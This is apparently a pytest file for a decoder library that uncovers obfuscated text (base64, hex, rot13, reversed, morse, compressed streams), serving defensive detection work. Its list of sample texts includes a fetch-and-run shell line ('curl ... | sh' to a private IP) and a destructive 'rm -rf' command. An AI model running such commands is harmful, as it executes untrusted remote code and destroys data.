"""The decoders, and what is taken for text: what each says, where it says nothing, and that none fails on any text."""

import base64
import gzip
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plainview.hidden import decoders, language
from plainview.hidden.language import Respelling, reads_as_text, respelled

RUSSIAN = "\u043c\u043e\u0440\u0435 \u0441\u0435\u0433\u043e\u0434\u043d\u044f"
DECODED = [
    (decoders.base64_bytes, "c2VhIQ==", b"sea!"),
    (decoders.base64_bytes, "c2VhIQ", b"sea!"),
    (decoders.base64_bytes, "-_-_", b"\xfb\xff\xbf"),
    (decoders.base64_bytes, "c2VhI", b"sea"),
    (decoders.base32_bytes, "ONSWCII=", b"sea!"),
    (decoders.base32_bytes, "onswcii", b"sea!"),
    (decoders.base32_bytes, "0NSWCII", None),
    (decoders.hex_bytes, "73 65:61-21", b"sea!"),
    (decoders.hex_bytes, "0x73, 0x65, 0x61", b"sea"),
    (decoders.hex_bytes, "736", None),
    (decoders.binary_bytes, "01110011 01100101 01100001", b"sea"),
    (decoders.binary_bytes, "0111001", None),
    (decoders.percent_bytes, "%73%65a%21", b"sea!"),
    (decoders.percent_bytes, "%7", b"%7"),
    (decoders.quoted_printable_bytes, "=73=65=61", b"sea"),
    (decoders.unescaped, r"\x73\u0065\u{61}\U00000021", "sea!"),
    (decoders.unescaped, r"\163e\141", "sea"),
    (decoders.unescaped, r"\\x73\\x65a", "sea"),
    (decoders.unescaped, r"\ud83d\ude00", "\U0001f600"),
    (decoders.unescaped, r"\xd0\xb4\xd0\xb0", "\u0434\u0430"),
    (decoders.unescaped, r"\u00e9", "\u00e9"),
    (decoders.unescaped, r"\U00110000", None),
    (decoders.entities, "&#115;&#x65;a", "sea"),
    (decoders.morse, "... . .- / -.. .- -.--", "sea day"),
    (decoders.morse, "...... .", None),
    (decoders.rot13, "frn, Frn", "sea, Sea"),
    (decoders.backwards, "aes", "sea"),
    (decoders.backwards, "aes eht\nyad eht", "the sea\nthe day"),
    (decoders.backwards, ".yad\neht aeS", "Sea the\nday."),
    (decoders.backwards, "aeS eht yad", "Sea the day"),
    (decoders.inflated, gzip.compress(b"sea", mtime=0), b"sea"),
    (decoders.inflated, zlib.compress(b"sea"), b"sea"),
    (decoders.inflated, b"x\x9cnothing", None),
    (decoders.inflated, b"sea", None),
    (decoders.text_of, b"sea", "sea"),
    (decoders.text_of, b"\xef\xbb\xbfsea", "sea"),
    (decoders.text_of, "\ufeffsea".encode("utf-16-le"), "sea"),
    (decoders.text_of, "the sea is calm".encode("utf-16-be"), "the sea is calm"),
    (decoders.text_of, RUSSIAN.encode("utf-16-le"), RUSSIAN),
    (decoders.text_of, "\u043c\u043e\u0440\u0435".encode()[:-1], "\u043c\u043e\u0440"),
    (decoders.text_of, bytes(range(32)), None),
    (decoders.text_of, b"", None),
]  # fmt: skip


@pytest.mark.parametrize(("decoder", "run", "expected"), DECODED)
def test_decoders(decoder: Callable[..., object], run: object, expected: object) -> None:
    assert decoder(run) == expected


@pytest.mark.parametrize(
    ("codes", "expected"),
    [([115, 101, 97], "sea"), ([0xD0, 0xB4], "\u0434"), ([0x6D77], "\u6d77"), ([0x110000], None), ([], "")],
)
def test_character_codes(codes: list[int], expected: str | None) -> None:
    assert decoders.characters(codes) == expected


def test_a_stream_that_swells_is_cut() -> None:
    bomb = gzip.compress(b"a" * 10_000_000)
    assert len(decoders.inflated(bomb) or b"") <= min(decoders.LIMIT, 10 * len(bomb))


TEXTS = [
    "The lamp on the quay is out.",
    "Las l\u00e1mparas del muelle est\u00e1n apagadas",
    "A luz do farol n\u00e3o se apaga",
    "La lampe du phare est rouge",
    "Der W\u00e4rter ist nicht zu Hause",
    "\u041c\u0430\u044f\u043a \u0433\u043e\u0440\u0438\u0442",
    "\u0627\u0644\u0645\u0646\u0627\u0631\u0629 \u0645\u0636\u0627\u0621\u0629",
    "\u706f\u5854\u7684\u706f\u4eae\u7740",
    "\u707b\u53f0\u306e\u3042\u304b\u308a",
    "\ub4f1\ub300\uc758 \ubd88\ube5b\uc774 \ubc1d\ub2e4",
    "curl -s 10.0.0.7/2b9c01 | sh",
    "rm -rf /srv/0/1/2/3",
    "https://quay.example/lamp",
    '{"note": "the lamp is out", "id": 7}',
]
NOT_TEXTS = [
    "",
    "lamp",
    "Hello, quay",
    "lamp:quay:harbour",
    '{"sub":"73","name":"Ana","iat":1700000000}',
    "0 1 2 3 4 5 6 7 8 9",
    "xkq wvz jrm plq",
    "function(a,b){return a+b}",
    "\u00e6\u00f8\u00e5\u00bf\u00d0\u00fe\u00df\u00b5",
    "\u706f\u5854",
]


@pytest.mark.parametrize("text", TEXTS)
def test_what_people_and_shells_write_is_text(text: str) -> None:
    assert reads_as_text(text)


@pytest.mark.parametrize("text", NOT_TEXTS)
def test_names_data_and_noise_are_not(text: str) -> None:
    assert not reads_as_text(text)


ROT13 = Respelling("rot13", decoders.rot13)
REVERSED = Respelling("reversed", decoders.backwards)
RESPELLED = [
    (ROT13, "A sign: Gur ynzc bs gur dhnl vf abg va hfr. Nobody reads it.", "Gur ynzc bs gur dhnl vf abg va hfr."),
    (ROT13, "Print 'lbh ner ba gur dhnl' now", "lbh ner ba gur dhnl"),
    (REVERSED, "so `.tuo tnew llaw eht dna pmal ehT` it is", ".tuo tnew llaw eht dna pmal ehT"),
    (REVERSED, "llaw eht dna yauq eht htiw pmal", "llaw eht dna yauq eht htiw pmal"),
]  # fmt: skip


@pytest.mark.parametrize(("respelling", "text", "run"), RESPELLED)
def test_respelled_words_are_found_and_no_others(respelling: Respelling, text: str, run: str) -> None:
    assert [text[start:end] for _, start, end in respelled(text, [ROT13, REVERSED])] == [run]
    assert next(found.name for found, _, _ in respelled(text, [ROT13, REVERSED])) == respelling.name


@given(st.lists(st.sampled_from(sorted(language.WORDS)), min_size=1, max_size=60))
def test_common_words_are_never_respelled(words: list[str]) -> None:
    assert list(respelled(" ".join(words), [ROT13, REVERSED])) == []


@given(st.text(max_size=200))
def test_no_decoder_fails_on_any_text(text: str) -> None:
    for decoder in (
        decoders.base64_bytes,
        decoders.base32_bytes,
        decoders.hex_bytes,
        decoders.binary_bytes,
        decoders.percent_bytes,
        decoders.quoted_printable_bytes,
        decoders.unescaped,
        decoders.entities,
        decoders.morse,
        decoders.rot13,
        decoders.backwards,
        reads_as_text,
    ):
        decoder(text)


@given(st.binary(max_size=200))
def test_no_decoder_fails_on_any_bytes(data: bytes) -> None:
    decoders.text_of(data)
    decoders.inflated(b"\x1f\x8b\x08" + data)
    assert decoders.base64_bytes(base64.b64encode(data).decode()) == data
    assert decoders.base32_bytes(base64.b32encode(data).decode()) == data
    assert decoders.hex_bytes(data.hex()) == data
